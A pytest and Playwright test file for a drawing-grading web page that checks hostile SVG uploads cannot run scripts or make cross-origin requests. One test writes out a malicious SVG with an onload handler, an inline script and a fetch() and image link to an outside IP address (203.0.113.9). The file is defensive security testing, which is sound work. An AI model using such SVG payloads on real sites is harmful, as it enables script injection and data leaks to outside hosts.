"""Every hostile SVG on the real grading page: nothing leaves the origin, no script runs, and the page stays usable."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from generation.formats import get_format
from generation.formats.base import Answer
from generation.models import Sample
from judging.models import Grade, GradeItem
from tests.hostile import case_bytes, cases
from tests.judging.graded import dimensions, make_rubric_run, seat_with_list

pytestmark = pytest.mark.django_db(transaction=True)
CASES = cases("svg")


def shown_drawings():
    """(case, drawing) of every svg case that is shown to judges at all."""
    svg = get_format("svg")
    for case in CASES:
        text = case_bytes(case).decode("utf-8", "replace")
        read = svg.extract(Answer(text))
        if read.valid:
            yield case["id"], read.drawing


def test_every_hostile_drawing_on_the_grading_page(page, live_server, log_in):
    drawings = list(shown_drawings())
    assert len(CASES) > 20 and len(drawings) > 8
    seat = seat_with_list(make_rubric_run(entrants=6, subjects=5, attempts=1))
    log_in(seat.judge)
    items = list(GradeItem.objects.filter(seat=seat).order_by("order")[: len(drawings)])
    assert len(items) == len(drawings)
    asked, dialogs, popups, errors = [], [], [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda popup: popups.append(popup.url))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.add_init_script("window.alert = window.fetchMark = () => { document.documentElement.dataset.ran = '1'; };")

    for (case, drawing), item in zip(drawings, items, strict=True):
        Sample.objects.filter(pk=item.sample_id).update(drawing=drawing)
        page.goto(f"{live_server.url}/judge/drawing/{item.code}/")
        here, title = page.url, page.title()
        picture = page.locator(".canvas img")
        assert picture.evaluate("image => image.decode().then(() => true, () => true)"), case
        for key in dimensions(item):
            with page.expect_response("**/save/"):
                page.locator(f"#slide-{key}").press("6")
        expect(page.locator("#saved")).to_have_text("Saved")

        assert (page.url, page.title()) == (here, title) == (here, "Grade · Pokémon in SVG"), case
        assert page.evaluate("document.documentElement.dataset.ran || null") is None, case
        assert page.locator(".canvas svg, .canvas iframe, .canvas object, .canvas embed").count() == 0, case
        assert Grade.objects.filter(sample=item.sample_id, value=6, withdrawn_at=None).count() == 3, case

    elsewhere = [url for url in asked if urlsplit(url).netloc != urlsplit(live_server.url).netloc]
    assert elsewhere == []
    assert (dialogs, popups, errors) == ([], [], [])


@pytest.mark.provokes("Blocked script execution", "violates the following Content Security Policy directive")
@pytest.mark.parametrize("straight", [False, True])
def test_the_drawings_own_address_cannot_act_either(page, live_server, log_in, straight):
    """Opened by itself, and even uncleaned: the sandbox holds where the cleaning would not."""
    seat = seat_with_list(make_rubric_run(entrants=1, subjects=1, attempts=1))
    log_in(seat.judge)
    item = seat.grade_items.first()
    raw = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'owned\'"><title>plain</title><script>document.title="owned";'
        'fetch("http://203.0.113.9/x")</script><image href="http://203.0.113.9/y.png" width="9" height="9"/></svg>'
    )
    Sample.objects.filter(pk=item.sample_id).update(drawing=raw)
    asked = []
    page.on("requestfinished", lambda request: asked.append(request.url))

    if straight:
        page.goto(f"{live_server.url}/judge/drawing/{item.code}/picture/")
    else:
        page.goto(f"{live_server.url}/judge/drawing/{item.code}/")
    page.wait_for_load_state("networkidle")

    assert page.title() != "owned"
    assert all(urlsplit(url).netloc == urlsplit(live_server.url).netloc for url in asked)
